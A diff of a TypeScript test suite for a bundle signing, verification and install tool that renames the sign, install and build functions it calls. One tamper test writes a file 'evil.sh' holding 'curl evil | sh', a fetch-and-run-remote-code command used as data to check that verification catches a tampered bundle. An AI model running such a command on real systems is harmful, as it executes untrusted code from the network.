@@ -8,9 +8,9 @@ import * as openpgp from 'openpgp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { hexOf } from '../src/store/digest.js';
 import { verifyBundle } from '../src/bundle/verify.js';
-import { type BuildOptions, buildCommand } from '../src/commands/build.js';
-import { installCommand } from '../src/commands/install.js';
-import { signCommand } from '../src/commands/sign.js';
+import { type BuildOptions, buildBundle } from '../src/bundle/publish.js';
+import { installBundle } from '../src/install/install.js';
+import { signWithKeyFile } from '../src/bundle/sign.js';
 import { makeBuildCtx } from '../src/context.js';
 import type { LoadedManifest } from '../src/manifest/load.js';
 import { installApt } from '../src/sources/apt/install.js';
@@ -51,7 +51,7 @@ function gpgVerify(bundle: string, pub: string): { status: number | null; stderr
 }
 
 async function build(dir: string, manifest: string, o: Partial<BuildOptions> = {}) {
-  return buildCommand({ manifest, out: join(dir, 'out'), frozen: false, concurrency: 4, ...o }, (m: LoadedManifest) =>
+  return buildBundle({ manifest, out: join(dir, 'out'), frozen: false, concurrency: 4, ...o }, (m: LoadedManifest) =>
     makeBuildCtx({
       cacheDir: join(work, 'cache'),
       report: () => {},
@@ -105,7 +105,7 @@ describe('sign and verify --key', () => {
     const dir = await tempDir();
     const b = (await build(dir, fileM)).dir;
     expect((await verifyBundle(b)).signature).toEqual({ status: 'unsigned' });
-    const res = await signCommand({ bundle: b, key: keys.sec });
+    const res = await signWithKeyFile({ bundle: b, key: keys.sec });
     expect(res).toMatchObject({ signer: rel.fingerprint, written: ['SHA256SUMS', 'SHA256SUMS.asc'], aptPackages: 0 });
     expect(await readFile(join(b, 'SHA256SUMS.asc'), 'utf8')).toMatch(/^-----BEGIN PGP SIGNATURE-----/);
 
@@ -122,14 +122,14 @@ describe('sign and verify --key', () => {
     expect((await verifyBundle(b, { key: rel.keyring })).signature.status).toBe('valid');
     // A real install journals the signer (these files have no install destination: nothing is written).
     const state = join(dir, 'state');
-    const inst = await installCommand({ bundle: b, dryRun: false, stateDir: state, key: keys.pub, ignoreTarget: true, exec: execFile, report: () => {}, signal: new AbortController().signal });
+    const inst = await installBundle({ bundle: b, dryRun: false, stateDir: state, key: keys.pub, ignoreTarget: true, exec: execFile, report: () => {}, signal: new AbortController().signal });
     expect(JSON.parse((await readFile(inst.journal!, 'utf8')).trim().split('\n').at(-1)!)).toMatchObject({ signer: rel.fingerprint, dryRun: false, ok: true });
   });
 
   it('a tampered SHA256SUMS fails verify --key (and gpg), though plain verify cannot tell', async () => {
     const dir = await tempDir();
     const b = await copy((await build(dir, fileM)).dir);
-    await signCommand({ bundle: b, key: keys.sec });
+    await signWithKeyFile({ bundle: b, key: keys.sec });
     // A consistent tamper: a new file, listed in SHA256SUMS with its true hash.
     await writeFile(join(b, 'evil.sh'), 'curl evil | sh\n');
     const line = execFileSync('sha256sum', ['evil.sh'], { cwd: b, encoding: 'utf8' });
@@ -151,7 +151,7 @@ describe('sign and verify --key', () => {
   it('a SHA256SUMS re-signed by another key fails, naming the signer found and the one expected', async () => {
     const dir = await tempDir();
     const b = await copy((await build(dir, fileM)).dir);
-    await signCommand({ bundle: b, key: keys.otherSec });
+    await signWithKeyFile({ bundle: b, key: keys.otherSec });
     const v = await verifyBundle(b, { key: keys.pub });
     expect(v.ok).toBe(false);
     expect(v.signature).toMatchObject({ status: 'invalid', signer: other.fingerprint, expected: [rel.fingerprint] });
@@ -186,7 +186,7 @@ describe('sign and verify --key', () => {
       expect(cli.stdout).not.toContain('NOT SIGNED');
     }
     // install --key never falls back to [trusted=yes] for a copy whose signature was removed.
-    const inst = await installCommand({
+    const inst = await installBundle({
       bundle: b,
       dryRun: true,
       stateDir: join(dir, 'state'),
@@ -203,28 +203,28 @@ describe('sign and verify --key', () => {
   it('refuses unusable keys with BAD_KEY: a public key, an unreadable file, a locked key without its passphrase', async () => {
     const dir = await tempDir();
     const b = (await build(dir, fileM)).dir;
-    await expect(signCommand({ bundle: b, key: keys.pub })).rejects.toMatchObject({
+    await expect(signWithKeyFile({ bundle: b, key: keys.pub })).rejects.toMatchObject({
       code: 'BAD_KEY',
       exitCode: 64,
       message: expect.stringContaining(`holds only a public key (${rel.fingerprint})`),
     });
-    await expect(signCommand({ bundle: b, key: join(dir, 'nope.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
+    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'nope.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
     await writeFile(join(dir, 'junk.asc'), 'not a key\n');
-    await expect(signCommand({ bundle: b, key: join(dir, 'junk.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
+    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'junk.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
     await expect(verifyBundle(b, { key: join(dir, 'junk.asc') })).rejects.toMatchObject({ code: 'BAD_KEY' });
 
     // A key made by openpgp.js, protected by a passphrase: refused without it, used with --passphrase-file.
     const { privateKey, publicKey } = await openpgp.generateKey({ userIDs: [{ name: 'Locked', email: 'l@test.invalid' }], passphrase: 'correct horse', format: 'armored' });
     await writeFile(join(dir, 'locked.sec.asc'), privateKey);
     await writeFile(join(dir, 'locked.asc'), publicKey);
-    await expect(signCommand({ bundle: b, key: join(dir, 'locked.sec.asc') })).rejects.toMatchObject({
+    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'locked.sec.asc') })).rejects.toMatchObject({
       code: 'BAD_KEY',
       hint: expect.stringContaining('--passphrase-file'),
     });
     await writeFile(join(dir, 'wrong'), 'wrong horse\n');
-    await expect(signCommand({ bundle: b, key: join(dir, 'locked.sec.asc'), passphraseFile: join(dir, 'wrong') })).rejects.toMatchObject({ code: 'BAD_KEY' });
+    await expect(signWithKeyFile({ bundle: b, key: join(dir, 'locked.sec.asc'), passphraseFile: join(dir, 'wrong') })).rejects.toMatchObject({ code: 'BAD_KEY' });
     await writeFile(join(dir, 'pass'), 'correct horse\n');
-    await signCommand({ bundle: b, key: join(dir, 'locked.sec.asc'), passphraseFile: join(dir, 'pass') });
+    await signWithKeyFile({ bundle: b, key: join(dir, 'locked.sec.asc'), passphraseFile: join(dir, 'pass') });
     expect(gpgVerify(b, join(dir, 'locked.asc')).status).toBe(0);
     expect((await verifyBundle(b, { key: join(dir, 'locked.asc') })).signature.status).toBe('valid');
   });
@@ -281,7 +281,7 @@ describe('sign and verify --key', () => {
     const b = await copy(r.dir);
     const blob = join(b, 'blobs/sha256', r.lock.artifacts[0]!.digest.slice(7));
     await writeFile(blob, 'changed');
-    await expect(signCommand({ bundle: b, key: keys.sec })).rejects.toMatchObject({ message: expect.stringMatching(/^not signing: /) });
+    await expect(signWithKeyFile({ bundle: b, key: keys.sec })).rejects.toMatchObject({ message: expect.stringMatching(/^not signing: /) });
     // build --sign-key --media tar: the tar holds the signature.
     const signedTar = await build(dir, fileM, { media: 'tar', out: join(dir, 'signed'), signKey: keys.sec });
     expect((await verifyBundle(signedTar.tar!, { key: keys.pub, requireSignature: true })).signature.status).toBe('valid');
@@ -294,7 +294,7 @@ describe('signed apt repository', () => {
     const a = (await build(dir, aptM, { out: join(dir, 'cut') })).dir;
     await mkdir(join(a, 'apt'));
     await writeFile(join(a, 'apt/Packages'), 'half-written\n'); // what an interrupted sign leaves: unlisted
-    const s = await signCommand({ bundle: a, key: keys.sec });
+    const s = await signWithKeyFile({ bundle: a, key: keys.sec });
     expect(s.written).toContain('apt/Packages');
     expect((await verifyBundle(a, { key: keys.pub, requireSignature: true })).ok).toBe(true);
   });
@@ -304,7 +304,7 @@ describe('signed apt repository', () => {
     const now = new Date();
     for (const media of ['dir', 'fat32'] as const) {
       const a = (await build(dir, aptM, { out: join(dir, `a-${media}`), media, partSize: 64 * 1024, now })).dir;
-      const s = await signCommand({ bundle: a, key: keys.sec, now });
+      const s = await signWithKeyFile({ bundle: a, key: keys.sec, now });
       expect(s.written).toEqual(['apt/Packages', 'apt/Release', 'apt/InRelease', 'SHA256SUMS', 'SHA256SUMS.asc']);
       expect(s.aptPackages).toBe(2);
       const b = await build(dir, aptM, { out: join(dir, `b-${media}`), media, partSize: 64 * 1024, now, signKey: keys.sec });
@@ -333,7 +333,7 @@ describe('signed apt repository', () => {
       return execFile(cmd, args, o);
     };
     const run = (key?: string) =>
-      installCommand({ bundle: r.dir, dryRun: true, stateDir: join(dir, 'state'), ...(key ? { key } : {}), exec, report: () => {}, signal: new AbortController().signal });
+      installBundle({ bundle: r.dir, dryRun: true, stateDir: join(dir, 'state'), ...(key ? { key } : {}), exec, report: () => {}, signal: new AbortController().signal });
     const res = await run(keys.pub);
     expect(res.signature).toMatchObject({ status: 'valid', signer: rel.fingerprint });
     expect(res.reports.find((x) => x.kind === 'apt')!.changed.sort()).toEqual(['alpha=1.0-1', 'beta=2.1-1']);
@@ -347,7 +347,7 @@ describe('signed apt repository', () => {
     const tar = await build(dir, aptM, { out: join(dir, 'tarred'), media: 'tar', signKey: keys.sec });
     const split = await build(dir, aptM, { out: join(dir, 'split'), media: 'fat32', partSize: 64 * 1024, signKey: keys.sec });
     for (const b of [tar.tar!, split.dir]) {
-      const x = await installCommand({ bundle: b, dryRun: true, stateDir: join(dir, 'state'), key: keys.pub, exec, report: () => {}, signal: new AbortController().signal });
+      const x = await installBundle({ bundle: b, dryRun: true, stateDir: join(dir, 'state'), key: keys.pub, exec, report: () => {}, signal: new AbortController().signal });
       expect(x.reports.find((k) => k.kind === 'apt')!.changed).toHaveLength(2);
       expect(lists.at(-1)).toMatch(/^deb \[signed-by=/);
     }
@@ -398,7 +398,7 @@ describe('signed apt repository', () => {
     });
     // Through install, verify refuses that copy before apt runs.
     await expect(
-      installCommand({ bundle: b, dryRun: true, stateDir: join(dir, 'state'), key: keys.pub, exec: execFile, report: () => {}, signal: new AbortController().signal }),
+      installBundle({ bundle: b, dryRun: true, stateDir: join(dir, 'state'), key: keys.pub, exec: execFile, report: () => {}, signal: new AbortController().signal }),
     ).rejects.toMatchObject({ code: 'VERIFY_FAILED', message: expect.stringContaining('apt/InRelease') });
   });
 });
